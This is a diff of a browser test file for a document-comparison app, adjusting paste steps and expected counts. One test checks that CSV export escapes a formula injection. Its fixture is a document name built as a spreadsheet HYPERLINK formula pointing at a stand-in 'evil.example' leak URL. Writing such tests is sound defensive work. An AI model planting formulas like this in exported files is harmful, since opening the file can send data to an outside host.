@@ -15,9 +15,15 @@ after(async () => { await harness?.close(); });
 test('the CSV of the matrix keeps a formula-like document name as text', async () => {
   const page = await harness.newPage();
   const name = '=HYPERLINK("http://evil.example/?leak","open me")';
-  await pasteDocument(page, name, 'The harbour wall will be rebuilt next spring, the council said on Monday.\n');
+  // The first paste replaces the untouched examples (first-files.js); the second joins it.
+  await page.click('#paste-button');
+  await page.fill('#paste-name', name);
+  await page.fill('#paste-text', 'The harbour wall will be rebuilt next spring, the council said on Monday.\n');
+  await page.click('#paste-add');
+  await page.waitForFunction(() => document.querySelectorAll('.doc-item').length === 1);
+  await pasteDocument(page, 'plain', 'The harbour wall will be rebuilt next year, the mayor said on Monday.\n');
   await page.click('#tab-overview');
-  await page.waitForFunction(() => document.querySelectorAll('#matrix tbody tr').length === 6);
+  await page.waitForFunction(() => document.querySelectorAll('#matrix tbody tr').length === 2);
   const csv = await downloaded(page, '#export-csv');
   const quoted = `"'=HYPERLINK(""http://evil.example/?leak"",""open me"")"`;
   const lines = csv.text.split('\r\n');
@@ -71,7 +77,7 @@ test('the page\'s patch of a decoded file says it is for the UTF-8 text; a plain
     { name: 'new notes.txt', text: right },
     { name: 'plain notes.txt', text: left },
   ]);
-  await page.waitForFunction(() => document.querySelectorAll('.doc-item').length === 8);
+  await page.waitForFunction(() => document.querySelectorAll('.doc-item').length === 3); // in place of the examples
   const names = await page.$$eval('.doc-item', (items) => items.map((item) => item.textContent));
   const index = (name) => names.findIndex((text) => text.includes(name));
   const [oldDoc, newDoc, plainDoc] = ['old notes.txt', 'new notes.txt', 'plain notes.txt'].map(index);
